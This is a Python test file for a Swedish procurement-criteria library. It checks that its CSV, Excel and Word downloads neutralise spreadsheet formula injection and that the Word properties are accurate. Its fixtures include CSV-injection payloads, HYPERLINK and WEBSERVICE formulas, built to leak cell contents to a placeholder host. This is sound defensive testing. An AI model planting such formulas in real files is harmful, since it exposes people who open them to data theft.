"""Downloads stay safe and honest when a contributor writes something a program could act on:
text that looks like a spreadsheet formula stays text (OWASP's advice on CSV injection), and a
Word file says what it is in its properties.

The files are made by the download writers from a copy of the library with one hostile criterion
and read back with openpyxl, the csv module and python-docx, as a procurer's programs would.
"""

from __future__ import annotations

import csv
import dataclasses
import io
import zipfile
from pathlib import Path
from types import MappingProxyType

import docx
import pytest
from openpyxl import load_workbook

from kravbanken.downloads import make
from kravbanken.downloads.tables import criteria_csv, criteria_xlsx, table
from kravbanken.downloads.word import criterion_docx
from kravbanken.model import Library, load_library

FIXTURE = Path(__file__).parent / "fixtures" / "TST-001.yaml"
SITE_URL = "https://kravbanken.se/"

TITLE = '=HYPERLINK("https://example.org/?leak="&A2,"Klicka här")'
VERIFICATION = '=WEBSERVICE("https://example.org/?q="&B2)'


def hostile(project: Path) -> Library:
    """The library of `project` with TST-001 carrying formulas in its title, verification and tags."""
    text = FIXTURE.read_text(encoding="utf-8")
    text = text.replace("  sv: Testkrav om arbetsvillkor", f"  sv: '{TITLE}'")
    text = text.replace("  sv: Leverantören lämnar en lista över produktionsenheter.", f"  sv: '{VERIFICATION}'")
    text += 'tags: ["=1+1", "x", "+46 8 123", "@SUM(A1)", "-2+3"]\n'
    (project / "criteria" / "krav" / "TST-001.yaml").write_text(text, encoding="utf-8")
    lib = load_library(project)
    assert lib.problems == ()
    return lib


@pytest.fixture
def spreadsheet(project):
    lib = hostile(project)
    head, rows = table(lib, SITE_URL)
    return lib, criteria_csv(head, rows), criteria_xlsx(head, rows)


def test_xlsx_has_no_formula_and_shows_the_text_as_written(spreadsheet):
    _, _, xlsx = spreadsheet
    sheet = load_workbook(io.BytesIO(xlsx)).active
    header = [cell.value for cell in sheet[1]]
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    row = next(r for r in sheet.iter_rows(min_row=2, values_only=True) if r[0] == "TST-001")
    assert row[header.index("Rubrik")] == TITLE
    assert row[header.index("Verifiering")] == VERIFICATION
    assert row[header.index("Sökord")] == "=1+1, x, +46 8 123, @SUM(A1), -2+3"


def test_csv_marks_formula_like_cells_as_text_with_a_leading_apostrophe(spreadsheet):
    _, raw, _ = spreadsheet
    rows = list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"), newline=""), delimiter=";"))
    row = next(r for r in rows if r["Id"] == "TST-001")
    assert row["Rubrik"] == "'" + TITLE
    assert row["Verifiering"] == "'" + VERIFICATION
    assert row["Sökord"] == "'=1+1, x, +46 8 123, @SUM(A1), -2+3"
    # No cell anywhere starts with a character that makes a spreadsheet read a formula.
    assert [v for r in rows for v in r.values() if v[:1] in ("=", "+", "-", "@", "\t", "\r")] == []
    # Ordinary text is left as it is.
    assert row["Kravtext"].startswith("Leverantören ska inom [två (2)] veckor")


W = "{http://schemas.openxmlformats.org/wordprocessingml/2006/main}"


def test_word_properties_name_the_criterion_and_its_date_not_the_library_that_wrote_it(project):
    lib = hostile(project)
    raw = criterion_docx(lib, lib.criteria["TST-001"], SITE_URL)
    properties = docx.Document(io.BytesIO(raw)).core_properties
    assert properties.title == f"TST-001 {TITLE}"
    assert properties.subject == "Hållbarhetskrav, version 2.0"
    assert (properties.author, properties.last_modified_by) == ("Kravbanken", "Kravbanken")
    # The fixture's published date, 2026-03-01, instead of python-docx's template date (2013-12-23).
    assert properties.created.isoformat() == properties.modified.isoformat() == "2026-03-01T00:00:00+00:00"
    with zipfile.ZipFile(io.BytesIO(raw)) as package:
        assert [n for n in package.namelist() if n.startswith("docProps/") and b"python-docx" in package.read(n)] == []


def test_the_permanent_address_in_a_word_file_does_not_break_at_its_hyphen(project):
    lib = hostile(project)
    document = docx.Document(io.BytesIO(criterion_docx(lib, lib.criteria["TST-001"], SITE_URL)))
    address = "https://kravbanken.se/kriterier/TST-001/2.0/"
    [source] = [p for p in document.paragraphs if p.text == f"Källa: Kravbanken TST-001 version 2.0, {address}"]
    # Word may break a line at "-" but not at a non-breaking hyphen (w:noBreakHyphen).
    [run] = [r for r in source._p.iter(f"{W}r") if "kravbanken.se" in "".join(t.text for t in r.iter(f"{W}t"))]
    assert "".join(t.text for t in run.iter(f"{W}t")) == address.replace("-", "")
    assert len(run.findall(f"{W}noBreakHyphen")) == address.count("-") == 1


@pytest.mark.parametrize(
    "change, writer", [({"title": {"sv": "Text \uffff"}}, "Excel"), ({"verification": {}}, "Word")]
)
def test_a_download_that_cannot_be_written_names_the_record_file(project, change, writer):
    # The validator refuses such records (tests/test_hostile_input.py); should one ever slip
    # through, the build stops naming the file instead of showing a traceback from the writer.
    lib = load_library(project)
    record = dict(lib.criteria["SOC-001"], **change)
    changed = dataclasses.replace(
        lib, records=MappingProxyType({**lib.records, "criterion": {**lib.criteria, "SOC-001": record}})
    )
    with pytest.raises(ValueError) as caught:
        make(changed, SITE_URL)
    assert str(caught.value).startswith(f"criteria/krav/SOC-001.yaml: {writer}-filen kunde inte skrivas (")
